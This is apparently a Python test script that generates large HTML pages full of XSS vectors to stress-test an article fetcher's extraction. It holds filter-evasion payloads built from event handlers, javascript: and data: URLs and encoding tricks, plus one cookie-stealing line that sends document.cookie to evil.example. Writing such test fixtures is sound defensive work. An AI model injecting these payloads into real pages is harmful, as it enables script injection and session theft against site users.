"""Article pages made of hostile markup, generated (nothing downloaded, nothing committed).

The shapes follow public XSS cheat sheets (OWASP's filter-evasion sheet, PortSwigger's
event-handler lists): every tag with every event handler, `javascript:` and `data:` URLs,
broken and nested tags, entity tricks, huge attribute values, and the text such pages leave
after extraction: thousands of unpunctuated lines, very long tokens, markup shown as text.
`python tests/xss_pages.py DIR` writes them for a manual run (`tidings fetch`).
"""

from __future__ import annotations

import html
import itertools
import random
import sys
from pathlib import Path

TAGS = ("img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee",
        "object", "embed", "a", "div", "math", "style", "textarea", "select", "form")
WORDS = ("xss", "bypass", "waf", "filter", "payload", "onerror", "alert", "svg", "img", "chrome",
         "firefox", "works", "polyglot", "cookie", "steal", "Mr", "vs", "etc", "e.g")
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin",
          "onanimationstart", "onpointerenter", "onbeforeprint", "onscroll", "onwheel")
PAYLOADS = (
    "alert(1)", "alert`1`", "prompt(document.domain)", "confirm(String.fromCharCode(88,83,83))",
    "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "window.location='javascript:alert(1)'",
    "fetch('//evil.example/'+document.cookie)", "[].constructor.constructor('alert(1)')()",
)
URLS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
        " javascript:alert(1)", "jav\tascript:alert(1)")


def vectors() -> list[str]:
    """Every tag x event x payload, then URL, nesting and parser-confusion tricks."""
    found = [f'<{tag} src=x {event}="{payload}"></{tag}>' for tag, event, payload
             in itertools.product(TAGS, EVENTS, PAYLOADS)]
    found += [f'<a href="{url}">click {n}</a>' for n, url in enumerate(URLS)]
    found += [f'<iframe src="{url}"></iframe><form action="{url}"><button>go</button></form>'
              for url in URLS]
    found += ["<scr<script>ipt>alert(1)</scr</script>ipt>", "<<SCRIPT>alert(1);//<</SCRIPT>",
              '<IMG """><SCRIPT>alert(1)</SCRIPT>">', "<svg><script>alert&#40;1&#41;</script>",
              '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
              '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
              "<!--<img src=--><img src=x onerror=alert(1)//>",
              '<object data="data:text/html,<script>alert(1)</script>"></object>',
              "<style>@import 'javascript:alert(1)';</style>",
              '<div style="background:url(javascript:alert(1))">x</div>']
    return found


def xss_page(size: int = 569_000, seed: int = 8) -> bytes:
    """A page of about `size` bytes: a title, one real paragraph, then hostile markup and the
    same vectors written out as text (as a payload list shows them), with no punctuation."""
    rng = random.Random(seed)
    pool = vectors()
    parts = ["<!doctype html><html><head><title>XSS payload list</title>",
             '<meta property="og:image" content="javascript:alert(1)">',
             f'<meta name="description" content="{"A" * 5000}"></head><body><article>',
             "<h1>XSS payload list</h1><p>Payloads collected for testing filters.</p>"]
    total = sum(map(len, parts))
    while total < size:
        chunk = _chunk(rng, pool)
        parts.append(chunk)
        total += len(chunk)
    parts.append("</article></body></html>")
    return "".join(parts).encode()


def _chunk(rng: random.Random, pool: list[str]) -> str:
    vector = rng.choice(pool)
    kind = rng.randrange(20)
    if kind < 6:
        return f"<p>{html.escape(vector)} {html.escape(rng.choice(pool))}</p>"
    if kind < 9:
        items = "".join(f"<li>{html.escape(rng.choice(pool))}</li>" for _ in range(40))
        return f"<ul>{items}</ul>"
    if kind < 12:
        return f"<pre><code>{html.escape(vector)}</code></pre>"
    if kind < 15:
        words = (rng.choice(WORDS) for _ in range(rng.randrange(50, 400)))
        return "<p>" + " ".join(words) + "</p>"
    if kind < 17:
        return f'<p title="{"x" * rng.randrange(100, 20_000)}">{"Q" * rng.randrange(100, 5000)}</p>'
    if kind < 18:
        depth = rng.randrange(5, 40)
        return "<div><span><b>" * depth + html.escape(vector) + "</b></span></div>" * depth
    return f"<p>{vector}payload {rng.randrange(10**6)} works in chrome firefox</p>"


def main(folder: str) -> None:
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    for name, size, seed in (("xss-big.html", 569_000, 8), ("xss-small.html", 23_000, 9)):
        (out / name).write_bytes(xss_page(size, seed))
        print(out / name)


if __name__ == "__main__":
    main(sys.argv[1])
